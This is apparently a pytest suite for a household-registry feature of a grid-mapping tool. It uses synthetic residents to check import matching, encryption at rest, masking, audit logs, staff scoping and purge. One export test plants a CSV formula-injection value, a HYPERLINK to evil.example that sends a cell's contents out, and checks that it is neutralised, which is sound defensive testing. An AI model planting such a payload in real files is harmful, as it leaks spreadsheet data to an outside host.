"""一户一档 on real shapes (issue #20): the demo district and Kunming's compounds, with 10,000
synthetic households (generated names, valid ID check digits, never real people).

Checked: matching by address, building id and coordinate; the review list; idempotent re-import
(GBK CSV after .xlsx); no name, ID number or phone in the project file's raw bytes; masking;
one audit row per personal read; staff scope; find and due against hand-made expectations;
purge everywhere; exports of aggregates only.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import shapely
import sqlalchemy as sa
from typer.testing import CliRunner

from geo.errors import Forbidden, InputError, NotFound
from geo.exchange.xlsx import write_xlsx
from geo.people import access, occupancy, visits
from geo.people import households as hh
from geo.people.importing import import_households
from geo.people.privacy import (
    KEY_ENV,
    KEY_FILE_ENV,
    Keyring,
    load_keyring,
    mask_id,
    mask_phone,
    normalise_id,
    valid_id,
)
from geo.people.synthetic import synthetic_households
from geo.storage.store import audit_log, open_store

SECRET = bytes(range(32))
KEY_TEXT = base64.b64encode(SECRET).decode()
ADMIN = access.Viewer("admin", "admin-test")


@pytest.fixture(scope="module")
def demo_base(tmp_path_factory) -> Path:
    """The demo district built by ``gridmap demo`` (1,984 named buildings, published, staffed),
    without the demo's own households (these tests import theirs with their key)."""
    out = tmp_path_factory.mktemp("hh-demo")
    done = subprocess.run(
        [sys.executable, "-m", "api", "demo", "--out", str(out), "--no-households"],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    return out / "gridmap.gpkg"


@pytest.fixture(scope="module")
def imported(demo_base, tmp_path_factory):
    """10,000 households (5 % unmatched) imported from an .xlsx into a copy of the demo."""
    folder = tmp_path_factory.mktemp("hh-import")
    db = folder / "project.gpkg"
    shutil.copy(demo_base, db)
    store = open_store(db)
    rows = synthetic_households(store.read_layer("buildings"), households=10_000, seed=7)
    workbook = folder / "住户.xlsx"
    write_xlsx(workbook, {"住户": rows.drop(columns="_expected")})
    outcome = import_households(store, workbook, Keyring(SECRET), actor="importer")
    return store, rows, outcome, folder


def _stored(store, table) -> pd.DataFrame:
    return store.read_table(table)


# -- the pieces ------------------------------------------------------------------------------------


def test_gb11643_check_digit_masks_and_full_width_digits():
    assert valid_id("11010519491231002X")  # GB 11643's own example
    assert not valid_id("110105194912310021")
    assert normalise_id("１１０１０５１９４９１２３１００２ｘ") == "11010519491231002X"
    assert mask_id("320581199001011234") == "320581********1234"
    assert mask_phone("13812345678") == "138****5678"


def test_a_missing_or_wrong_key_is_one_clear_line(monkeypatch, tmp_path):
    monkeypatch.delenv(KEY_ENV, raising=False)
    monkeypatch.delenv(KEY_FILE_ENV, raising=False)
    with pytest.raises(InputError, match="no household key: set GRIDMAP_HOUSEHOLD_KEY"):
        load_keyring()
    monkeypatch.setenv(KEY_ENV, "not a key")
    with pytest.raises(InputError, match="neither base64 nor hex"):
        load_keyring()
    key_file = tmp_path / "household.key"
    key_file.write_text(KEY_TEXT + "\n")
    assert load_keyring(key_file).check_value() == Keyring(SECRET).check_value()
    sealed = Keyring(SECRET).seal("张三", "residents", "R1", "name")
    with pytest.raises(InputError, match="does not open"):  # bound to its row and column
        Keyring(SECRET).open(sealed, "residents", "R2", "name")


# -- import ------------------------------------------------------------------------------------------


def test_ten_thousand_households_match_their_buildings_and_the_rest_wait_for_review(imported):
    store, rows, outcome, _ = imported
    expected = rows.drop_duplicates("户编号").set_index("户编号")["_expected"]
    assert outcome.households == 10_000
    assert outcome.review == int(expected.isna().sum()) > 400  # about 5 %
    assert outcome.added == int(expected.notna().sum())
    assert outcome.matched_by == {"address": outcome.added}  # every demo building has a name
    homes = _stored(store, hh.households).set_index("household_id")["building_id"]
    assert homes.sort_index().equals(expected.dropna().sort_index().rename("building_id"))
    review = _stored(store, hh.household_review)
    unmatched = rows[rows["_expected"].isna()]
    assert len(review) == len(unmatched)  # every row kept, none dropped
    assert set(review["household_id"]) == set(expected[expected.isna()].index)
    assert review["reason"].str.startswith("building id not in the project").all()
    assert len(_stored(store, hh.residents)) == int(
        (rows["_expected"].notna() & (rows["姓名"] != "")).sum()
    )


def test_reimport_as_gbk_csv_is_idempotent_and_a_changed_household_is_updated_and_logged(imported):
    store, rows, outcome, folder = imported
    listing = rows.drop(columns="_expected")
    csv = folder / "住户.csv"
    listing.to_csv(csv, index=False, encoding="gbk")
    again = import_households(store, csv, Keyring(SECRET), actor="importer")
    assert (again.added, again.updated, again.unchanged) == (0, 0, outcome.added)
    assert len(_stored(store, hh.household_review)) == len(rows[rows["_expected"].isna()])
    placed = rows[rows["_expected"].notna()]
    changed = placed["户编号"].iloc[0]
    listing.loc[listing["户编号"] == changed, "联系电话"] = "13900001111"
    listing.to_csv(csv, index=False, encoding="gbk")
    third = import_households(store, csv, Keyring(SECRET), actor="importer")
    assert (third.added, third.updated) == (0, 1)
    log = _stored(store, audit_log)
    updates = log[log["action"] == "household updated"]
    assert json.loads(updates["details"].iloc[-1])["household_id"] == changed
    found = access.find(
        store, Keyring(SECRET), ADMIN, access.Query(phone="13900001111"), purpose="test"
    )
    assert [f["household_id"] for f in found] == [changed]


def test_the_project_file_holds_no_name_id_number_or_phone_in_clear(imported):
    store, rows, _, _ = imported
    store.engine.dispose()
    raw = b"".join(
        Path(f"{store.path}{suffix}").read_bytes()
        for suffix in ("", "-wal")
        if Path(f"{store.path}{suffix}").exists()
    )
    ids = set(rows["身份证号"]) - {""}
    phones = set(rows["联系电话"]) - {""}
    assert not ids & {m.decode() for m in re.findall(rb"\d{17}[\dX]", raw)}
    assert not phones & {m.decode() for m in re.findall(rb"1[3-9]\d{9}", raw)}
    workers = set(store.read_table("workers")["name"])
    names = sorted({n for n in rows["姓名"] if len(n) == 3} - workers)[:60]
    for name in names:
        assert name.encode("utf-8") not in raw, name
        assert name.encode("gbk") not in raw, name


# -- reading ----------------------------------------------------------------------------------------


def _household(rows: pd.DataFrame, number: int) -> pd.DataFrame:
    placed = rows[rows["_expected"].notna() & (rows["姓名"] != "")]
    return placed[placed["户编号"] == placed["户编号"].unique()[number]]


def test_find_by_id_phone_tail_name_and_address_is_masked_and_audited(imported):
    store, rows, _, _ = imported
    keys = Keyring(SECRET)
    home = _household(rows, 3)
    key, person = home["户编号"].iloc[0], home.iloc[0]
    before = len(_stored(store, audit_log))
    by_id = access.find(
        store, keys, ADMIN, access.Query(id_number=person["身份证号"]), purpose="核查"
    )
    assert [f["household_id"] for f in by_id] == [key]
    shown = by_id[0]["residents"][0]
    assert shown["id_number"] == person["身份证号"][:6] + "********" + person["身份证号"][-4:]
    assert shown["name"] == person["姓名"][0] + "*" * (len(person["姓名"]) - 1)
    assert by_id[0]["phone"] == mask_phone(person["联系电话"])
    assert by_id[0]["building_id"] == person["_expected"]
    spot = store.read_layer("buildings", where={"building_id": person["_expected"]}).to_crs(4326)
    assert spot.geometry.iloc[0].contains(shapely.Point(by_id[0]["lon"], by_id[0]["lat"]))
    tail = access.find(
        store, keys, ADMIN, access.Query(id_tail=person["身份证号"][-8:]), purpose="核查"
    )
    assert key in [f["household_id"] for f in tail]
    place = f"{person['小区']}{person['楼号']}{person['单元']}单元{person['室']}"
    at = access.find(store, keys, ADMIN, access.Query(address=place), purpose="核查", limit=50)
    expected = rows[
        (rows["_expected"] == person["_expected"])
        & (rows["单元"] == person["单元"])
        & (rows["室"] == person["室"])
    ]["户编号"]
    assert sorted(f["household_id"] for f in at) == sorted(set(expected))
    named = access.find(
        store, keys, ADMIN, access.Query(name=person["姓名"], address=place), purpose="核查"
    )
    assert [f["household_id"] for f in named] == [key]
    log = _stored(store, audit_log).iloc[before:]
    reads = log[log["action"] == "personal read"]
    assert len(reads) == len(by_id) + len(tail) + len(at) + len(named)
    assert {json.loads(d)["purpose"] for d in reads["details"]} == {"核查"}
    assert set(reads["actor"]) == {"admin-test"}
    unmasked = access.find(
        store, keys, ADMIN, access.Query(id_number=person["身份证号"]), purpose="核查", unmask=True
    )
    assert unmasked[0]["residents"][0]["id_number"] == person["身份证号"]


def test_staff_read_their_own_grids_only_and_planners_see_counts(imported):
    store, rows, _, _ = imported
    keys = Keyring(SECRET)
    places = access.placement(store)
    home = _household(rows, 5)
    person = home.iloc[0]
    owner = places.loc[person["_expected"], "worker"]
    other = next(w for w in places["worker"].dropna().unique() if w != owner)
    mine = access.Viewer("staff", "s-owner", worker=owner)
    theirs = access.Viewer("staff", "s-other", worker=other)
    query = access.Query(id_number=person["身份证号"])
    assert [f["household_id"] for f in access.find(store, keys, mine, query, purpose="走访")] == [
        home["户编号"].iloc[0]
    ]
    assert access.find(store, keys, theirs, query, purpose="走访") == []
    everyone = access.find(
        store, keys, theirs, access.Query(name=person["姓名"][0]), purpose="走访", limit=200
    )
    assert everyone
    assert {f["worker"] for f in everyone} == {other}
    with pytest.raises(NotFound):
        visits.assign(store, theirs, [home["户编号"].iloc[0]], "干部甲")
    with pytest.raises(NotFound):
        access.purge(store, theirs, home["户编号"].iloc[0], reason="test")
    with pytest.raises(NotFound):
        visits.record_visit(
            store, keys, theirs, home["户编号"].iloc[0], cadre="x", visited_on=dt.date.today()
        )
    visits.assign(store, ADMIN, [home["户编号"].iloc[0]], "干部丁")
    assert "干部丁" in set(visits.due(store, mine)["cadre"])
    assert "干部丁" not in set(visits.due(store, theirs)["cadre"])
    with pytest.raises(Forbidden):
        access.review_list(store, theirs)
    for role in ("planner", "viewer"):
        with pytest.raises(Forbidden):
            access.find(store, keys, access.Viewer(role, "p"), query, purpose="x")
    with pytest.raises(Forbidden):
        access.find(store, keys, access.Viewer("staff", "unbound"), query, purpose="x")
    grid = occupancy.grid_occupancy(store)
    assert grid["households"].sum() == len(_stored(store, hh.households))
    assert not set(grid.columns) & {"name", "id_number", "phone", "head"}


def test_due_lists_per_cadre_the_households_not_visited_in_time(imported):
    store, rows, _, _ = imported
    keys = Keyring(SECRET)
    ids = [_household(rows, n)["户编号"].iloc[0] for n in range(20, 25)]
    first = visits.assign(store, ADMIN, ids[:3], "干部甲")
    assert first.holds == 3
    assert not first.warning
    fourth = visits.assign(store, ADMIN, ids[3:4], "干部甲")
    assert fourth.holds == 4
    assert "more than 3" in fourth.warning
    visits.assign(store, ADMIN, ids[4:], "干部乙")
    today = dt.date(2026, 6, 30)
    for key, days_ago in ((ids[0], 5), (ids[1], 40), (ids[1], 31), (ids[4], 29)):
        visits.record_visit(
            store,
            keys,
            ADMIN,
            key,
            cadre="干部甲",
            visited_on=today - dt.timedelta(days=days_ago),
            notes=("问低保", "已转民政", "下月回访"),
        )
    due = visits.due(store, ADMIN, days=30, today=today)
    got = due[due["cadre"].isin(["干部甲", "干部乙"])]
    assert list(
        zip(got["cadre"], got["household_id"], got["days_since"].astype(object), strict=True)
    ) == sorted(
        [("干部甲", ids[1], 31), ("干部甲", ids[2], pd.NA), ("干部甲", ids[3], pd.NA)],
        key=lambda r: (r[0], r[1]),
    )
    raw = _stored(store, hh.household_visits)
    assert b"\xe4\xbd\x8e\xe4\xbf\x9d" not in b"".join(raw["asked"])  # 低保: sealed
    shown = access.find(store, keys, ADMIN, access.Query(household_id=ids[1]), purpose="回访")
    assert [(v["visited_on"], v["asked"], v["follow_up"]) for v in shown[0]["visits"]] == [
        ("2026-05-30", "问低保", "下月回访"),
        ("2026-05-21", "问低保", "下月回访"),
    ]


def test_purge_removes_a_household_everywhere(imported):
    store, rows, _, _ = imported
    key = _household(rows, 40)["户编号"].iloc[0]
    visits.assign(store, ADMIN, [key], "干部丙")
    visits.record_visit(
        store, Keyring(SECRET), ADMIN, key, cadre="干部丙", visited_on=dt.date.today()
    )
    removed = access.purge(store, ADMIN, key, reason="迁出")
    assert removed["households"] == 1
    assert removed["residents"] >= 1
    assert removed["household_visits"] == 1
    for table in (
        hh.households,
        hh.residents,
        hh.household_cadres,
        hh.household_visits,
        hh.household_review,
    ):
        assert store.count(table.name, where={"household_id": key}) == 0
    review_only = _stored(store, hh.household_review)["household_id"].iloc[0]
    access.purge(store, ADMIN, review_only, reason="迁出")
    assert store.count("household_review", where={"household_id": review_only}) == 0


# -- Kunming: building ids and coordinates; the command line ------------------------------------------


@pytest.fixture
def kunming_listing(staffed, tmp_path):
    store = open_store(staffed)
    rows = synthetic_households(store.read_layer("buildings"), households=600, seed=3)
    csv = tmp_path / "住户.csv"
    rows.drop(columns="_expected").to_csv(csv, index=False, encoding="gbk")
    store.engine.dispose()
    return staffed, rows, csv


def test_kunming_households_match_by_building_id_and_by_coordinate(kunming_listing):
    db, rows, csv = kunming_listing
    first = rows[rows["_expected"].notna() & (rows["身份证号"] != "")].iloc[0]
    numbered_by_id = rows["户编号"] == first["户编号"]  # some offices number by the head's ID
    rows.loc[numbered_by_id, "户编号"] = first["身份证号"]
    sizes = rows[rows["_expected"].notna()].groupby("户编号").size()
    split = rows.index[rows["户编号"] == sizes[sizes > 1].index[-1]][-1]
    rows.loc[split, ["楼栋编号", "经度", "纬度", "_expected"]] = ["322667424", "", "", None]
    rows.loc[rows["户编号"] == rows.loc[split, "户编号"], "_expected"] = None
    rows.drop(columns="_expected").to_csv(csv, index=False, encoding="gbk")
    store = open_store(db)
    outcome = import_households(store, csv, Keyring(SECRET))
    stored_ids = set(_stored(store, hh.households)["household_id"])
    assert first["身份证号"] not in stored_ids
    assert len(stored_ids) == outcome.added
    expected = rows.drop_duplicates("户编号").set_index("户编号")["_expected"]
    assert set(outcome.matched_by) == {"building_id", "coordinate"}
    homes = _stored(store, hh.households)["building_id"].value_counts().sort_index()
    assert homes.equals(expected.dropna().value_counts().sort_index().rename("count"))
    assert outcome.review == int(expected.isna().sum())
    assert outcome.reasons["the household's rows name different places"] == 1


def test_the_command_line_imports_finds_in_scope_and_exports_aggregates_only(
    kunming_listing, tmp_path
):
    from api.cli import app

    db, rows, csv = kunming_listing
    runner = CliRunner()
    env = {"GRIDMAP_LANG": "en", KEY_ENV: KEY_TEXT}
    done = runner.invoke(
        app, ["households", "import", str(csv), "--db", str(db), "--json"], env=env
    )
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["households"] == 600
    missing = runner.invoke(
        app,
        ["households", "find", "--db", str(db), "--name", "王", "--purpose", "x"],
        env={"GRIDMAP_LANG": "en", KEY_ENV: ""},
    )
    assert missing.exit_code == 2
    assert "no household key" in missing.output
    places = access.placement(open_store(db))
    person = rows[rows["_expected"].notna() & (rows["身份证号"] != "")].iloc[0]
    owner = places.loc[person["_expected"], "worker"]
    other = next(w for w in places["worker"].dropna().unique() if w != owner)
    args = [
        "households",
        "find",
        "--db",
        str(db),
        "--id",
        person["身份证号"],
        "--purpose",
        "走访",
        "--json",
    ]
    mine = runner.invoke(app, [*args, "--worker", owner], env=env)
    assert [f["household_id"] for f in json.loads(mine.stdout)] == [person["户编号"]]
    assert person["身份证号"] not in mine.stdout
    assert person["姓名"] not in mine.stdout
    assert json.loads(runner.invoke(app, [*args, "--worker", other], env=env).stdout) == []
    shown = runner.invoke(
        app,
        [
            "households",
            "find",
            "--db",
            str(db),
            "--household",
            person["户编号"],
            "--purpose",
            "走访",
        ],
        env=env,
    )
    assert shown.exit_code == 0, shown.output
    assert mask_id(person["身份证号"]) in shown.stdout
    assert person["身份证号"] not in shown.stdout
    counts_only = runner.invoke(app, [*args, "--role", "planner"], env=env)
    assert counts_only.exit_code == 5


def test_exports_carry_aggregates_unless_an_admin_gives_a_reason(kunming_listing, tmp_path):
    from api.cli import app

    db, rows, csv = kunming_listing
    hostile = rows[rows["_expected"].notna() & (rows["身份证号"] != "")].index[-1]
    rows.loc[hostile, "姓名"] = '=HYPERLINK("http://evil.example/?"&A1)'
    rows.drop(columns="_expected").to_csv(csv, index=False, encoding="gbk")
    runner = CliRunner()
    env = {"GRIDMAP_LANG": "en", KEY_ENV: KEY_TEXT}
    assert (
        runner.invoke(app, ["households", "import", str(csv), "--db", str(db)], env=env).exit_code
        == 0
    )
    person = rows[rows["_expected"].notna() & (rows["身份证号"] != "")].iloc[0]
    out = tmp_path / "occupancy.csv"
    assert (
        runner.invoke(app, ["households", "export", str(out), "--db", str(db)], env=env).exit_code
        == 0
    )
    text = out.read_text(encoding="utf-8-sig")
    assert person["姓名"] not in text
    assert person["身份证号"] not in text
    refused = runner.invoke(
        app,
        ["households", "export", str(tmp_path / "p.csv"), "--db", str(db), "--include-personal"],
        env=env,
    )
    assert refused.exit_code == 2
    assert "--reason" in refused.output
    personal = tmp_path / "personal.csv"
    ok = runner.invoke(
        app,
        [
            "households",
            "export",
            str(personal),
            "--db",
            str(db),
            "--include-personal",
            "--reason",
            "审计抽查",
        ],
        env=env,
    )
    assert ok.exit_code == 0
    assert person["身份证号"] in personal.read_text(encoding="utf-8-sig")
    cells = pd.read_csv(personal, dtype=str, encoding="utf-8-sig")["name"]
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in set(cells)  # text, never a formula
    assert not cells.str.startswith("=").any()
    log = open_store(db).read_table(audit_log)
    assert (log["action"] == "personal export").sum() == 1
    logged = " ".join(log["details"])
    assert person["身份证号"] not in logged
    assert person["姓名"] not in logged


def test_tables_are_created_through_sqlalchemy_core(tmp_path):
    store = open_store(tmp_path / "empty.gpkg", create=True)
    hh.ensure_tables(store)
    with store.reading() as conn:
        names = set(sa.inspect(conn).get_table_names())
    assert {
        "households",
        "residents",
        "household_review",
        "household_cadres",
        "household_visits",
    } <= names
    assert not names & set(store.layers())  # no layer: QGIS, OGC and exports never list them


def test_under_a_token_the_households_commands_read_as_its_holder(kunming_listing):
    # issue #18 §4: a staff token bound to a worker reads that worker's grids' households in
    # the CLI as in the API; it cannot read as someone else, and a viewer's token finds nothing
    from api.cli import app
    from geo.people.tokens import create_token

    db, rows, csv = kunming_listing
    runner = CliRunner()
    env = {"GRIDMAP_LANG": "en", KEY_ENV: KEY_TEXT}
    assert (
        runner.invoke(app, ["households", "import", str(csv), "--db", str(db)], env=env).exit_code
        == 0
    )
    store = open_store(db)
    places = access.placement(store)
    person = rows[rows["_expected"].notna() & (rows["身份证号"] != "")].iloc[0]
    owner = places.loc[person["_expected"], "worker_id"]
    other = next(w for w in places["worker_id"].dropna().unique() if w != owner)
    tokens = {
        "mine": create_token(store, "片区网格员", "staff", worker=owner),
        "theirs": create_token(store, "别的网格员", "staff", worker=other),
        "viewer": create_token(store, "只读", "viewer"),
    }
    find = ["households", "find", "--db", str(db), "--id", person["身份证号"], "--purpose", "走访"]

    def run(who: str, *extra: str):
        return runner.invoke(
            app, [*find, "--json", *extra], env={**env, "GRIDMAP_TOKEN": tokens[who]}
        )

    mine = run("mine")
    assert mine.exit_code == 0, mine.output
    assert [f["household_id"] for f in json.loads(mine.stdout)] == [person["户编号"]]
    assert person["身份证号"] not in mine.stdout  # masked: --unmask is the admin's
    assert json.loads(run("theirs").stdout) == []  # another worker's grids
    widened = run("theirs", "--worker", owner)
    assert widened.exit_code == 5
    assert "leave out --worker" in widened.output
    assert run("mine", "--role", "admin").exit_code == 0  # the default names no one
    assert run("viewer").exit_code == 5  # households find needs staff, as its API route
    assert "Traceback" not in widened.output + run("viewer").output
    logged = store.read_table(audit_log)
    reads = logged[logged["action"] == "personal read"]
    assert reads["actor"].str.contains("片区网格员").any()
